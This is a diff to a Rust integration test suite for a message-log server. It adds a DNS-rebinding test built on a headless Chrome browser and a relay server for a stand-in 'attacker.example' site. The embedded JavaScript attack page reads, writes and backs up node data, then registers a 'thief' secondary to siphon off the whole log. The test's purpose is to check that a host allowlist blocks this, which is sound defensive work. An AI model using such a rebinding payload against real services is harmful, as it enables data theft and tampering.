@@ -8,7 +8,10 @@ mod common;
 
 use common::{Cluster, Node, PATIENCE, free_ports, post, wait_until};
 use serde_json::{Value, json};
+use std::io::{self, Read, Write};
+use std::net::{TcpListener, TcpStream};
 use std::process::{Child, Command, Stdio};
+use std::thread;
 use std::time::Duration;
 use ureq::Agent;
 
@@ -20,8 +23,12 @@ struct Browser {
 }
 
 impl Browser {
-    /// `None` where there is none.
+    /// With the page of a node; `None` where there is no browser.
     fn open(node: &Node) -> Option<Browser> {
+        Browser::open_at(&node.url("/"), &[])
+    }
+
+    fn open_at(url: &str, more_options: &[&str]) -> Option<Browser> {
         let port = free_ports(1)[0];
         let driver = Command::new("chromedriver")
             .args([&format!("--port={port}"), "--log-level=SEVERE"])
@@ -35,7 +42,8 @@ impl Browser {
         let config = Agent::config_builder().proxy(None).http_status_as_error(false).timeout_global(Some(PATIENCE * 2));
         let (agent, session) = (Agent::from(config.build()), format!("http://127.0.0.1:{port}/session"));
         let mut browser = Browser { driver, agent, session };
-        let options = json!({ "args": ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"] });
+        let options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"];
+        let options = json!({ "args": options.iter().chain(more_options).collect::<Vec<_>>() });
         let wanted = json!({
             "browserName": "chrome",
             "goog:chromeOptions": options,
@@ -48,7 +56,7 @@ impl Browser {
             opened["sessionId"].is_string()
         });
         browser.session = format!("{}/{}", browser.session, opened["sessionId"].as_str().unwrap());
-        browser.call("/url", &json!({ "url": node.url("/") }));
+        browser.call("/url", &json!({ "url": url }));
         Some(browser)
     }
 
@@ -229,4 +237,66 @@ fn a_log_that_was_replaced_is_shown_anew() {
     assert_eq!(cluster.post("of the new log").status, 201);
     wait_until("only the new one is shown", || browser.log() == ["of the new log"]);
     assert_eq!(browser.complaints(), Vec::<String>::new());
+}
+
+/// What a page does that takes a node for its own site: it reads, writes, and has the whole log sent to a node of its own.
+const ATTACK: &str = "<!doctype html><title>attack</title><script>
+const ask = (path, method, body) => fetch(path, { method, body }).then(reply => reply.status, error => String(error));
+Promise.all([
+    ask('/messages'),
+    ask('/health'),
+    ask('/backup'),
+    ask('/messages', 'POST', '{\"message\": \"planted\"}'),
+]).then(statuses =>
+    ask('/secondaries', 'POST', '{\"url\": \"http://127.0.0.1:9\", \"server_id\": \"thief\"}').then(last => {
+        window.statuses = [...statuses, last];
+    })
+);
+</script>";
+
+/// The other site: its name leads to its own server first, which has the page, and to the node from then on. Here a server
+/// does both, by handing on every connection that does not ask for the page.
+fn other_site(node: &Node) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let (port, node) = (listener.local_addr().unwrap().port(), node.port);
+    thread::spawn(move || {
+        for mut browser in listener.incoming().map_while(Result::ok) {
+            thread::spawn(move || {
+                let mut begin = [0; 11];
+                if browser.read_exact(&mut begin).is_err() {
+                    return;
+                }
+                if &begin == b"GET /attack" {
+                    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length";
+                    let _ = write!(browser, "{head}: {}\r\n\r\n{ATTACK}", ATTACK.len());
+                    return;
+                }
+                let mut node = TcpStream::connect(("127.0.0.1", node)).unwrap();
+                node.write_all(&begin).unwrap();
+                let (mut from_node, mut to_browser) = (node.try_clone().unwrap(), browser.try_clone().unwrap());
+                thread::spawn(move || io::copy(&mut from_node, &mut to_browser));
+                let _ = io::copy(&mut browser, &mut node);
+            });
+        }
+    });
+    port
+}
+
+#[test]
+fn a_page_whose_name_leads_to_a_node_gets_nothing_from_it() {
+    for (allowed, statuses) in
+        [("", json!([403, 403, 403, 403, 403])), ("attacker.example", json!([200, 200, 200, 201, 200]))]
+    {
+        let cluster = Cluster::start_with(&[], &[("ALLOW_HOSTS", allowed)]);
+        assert_eq!(cluster.post("secret").status, 201);
+        let url = format!("http://attacker.example:{}/attack", other_site(&cluster.master));
+        let rules = "--host-resolver-rules=MAP attacker.example 127.0.0.1";
+        let Some(browser) = Browser::open_at(&url, &[rules]) else { return };
+        wait_until("the page has tried everything", || browser.run("return window.statuses || null") != Value::Null);
+        assert_eq!(browser.run("return window.statuses"), statuses, "ALLOW_HOSTS={allowed}");
+        let was_harmed = !allowed.is_empty();
+        assert_eq!(cluster.master.messages().len(), 1 + usize::from(was_harmed));
+        let known = common::get(&cluster.master.url("/secondaries")).body["secondaries"].as_array().unwrap().len();
+        assert_eq!(known, usize::from(was_harmed));
+    }
 }
